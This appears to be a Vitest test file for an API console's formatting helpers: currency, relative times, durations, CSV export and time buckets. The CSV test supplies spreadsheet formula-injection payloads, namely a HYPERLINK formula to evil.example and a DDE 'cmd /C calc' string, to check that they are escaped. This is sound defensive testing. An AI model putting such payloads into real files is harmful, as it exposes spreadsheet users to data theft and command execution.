import { describe, expect, it } from "vitest";
import { ago, usd, ms } from "./format.ts";
import { toCsv } from "./csv.ts";
import { bucketStarts } from "./buckets.ts";

describe("console formatting", () => {
  it("money is the API's exact decimal, grouped, never rounded through a float", () => {
    expect(usd("0.000028")).toBe("$0.000028");
    expect(usd("1234567.1000000000000001")).toBe("$1,234,567.1000000000000001");
    expect(usd("5")).toBe("$5");
    expect(usd(null)).toBe("—");
  });

  it("times ago and to come: seconds, minutes, hours, then days beyond 48 hours, either way", () => {
    const now = Date.parse("2026-11-28T15:00:00Z");
    const at = (s: number) => new Date(now + s * 1000).toISOString();
    expect(ago(at(-30), now)).toBe("30 s ago");
    expect(ago(at(-3600), now)).toBe("60 min ago");
    expect(ago(at(-30 * 3600), now)).toBe("30 h ago");
    expect(ago(at(-5 * 86400), now)).toBe("5 d ago");
    expect(ago(at(30), now)).toBe("in 30 s");
    expect(ago(at(3600), now)).toBe("in 60 min");
    expect(ago(at(30 * 3600), now)).toBe("in 30 h");
    // A key expiring on 2027-03-01 (the audit's "in 2217 h").
    expect(ago("2027-03-01T00:00:00.000Z", now)).toBe("in 92 d");
    expect(ago(null, now)).toBe("never");
  });

  it("durations in ms below a second, seconds above", () => {
    expect(ms(12.34)).toBe("12.3 ms");
    expect(ms(1500)).toBe("1.50 s");
    expect(ms(null)).toBe("—");
  });

  it("CSV quotes what needs it and keeps a cell from being read as a formula", () => {
    expect(toCsv(["a", "b"], [["x,y", 'say "hi"'], ["=1+1", "-0.5"]])).toBe('a,b\r\n"x,y","say ""hi"""\r\n\'=1+1,-0.5\r\n');
    // A tenant's string that starts like a negative number is still a formula to a spreadsheet (audit: a model name
    // from an MCP tool reached the Spend export this way); so is one after a tab.
    expect(toCsv(["m"], [['-2+3+HYPERLINK("http://evil.example/?x","click")'], ["-1+cmd|' /C calc'!A0"], ["\t=1+1"], ["-12.5"], ["3e-7"]]))
      .toBe('m\r\n"\'-2+3+HYPERLINK(""http://evil.example/?x"",""click"")"\r\n\'-1+cmd|\' /C calc\'!A0\r\n\'\t=1+1\r\n-12.5\r\n3e-7\r\n');
  });

  it("buckets cover the range, days from midnight UTC, so empty hours and days are drawn as zero", () => {
    expect(bucketStarts("2026-11-26T10:00:00.000Z", "2026-11-26T13:00:00.000Z", "hour").map((t) => new Date(t).toISOString().slice(11, 13))).toEqual(["10", "11", "12"]);
    const days = bucketStarts("2026-11-24T10:00:00.000Z", "2026-11-26T13:00:00.000Z", "day").map((t) => new Date(t).toISOString());
    expect(days).toEqual(["2026-11-24T00:00:00.000Z", "2026-11-25T00:00:00.000Z", "2026-11-26T00:00:00.000Z"]);
  });
});
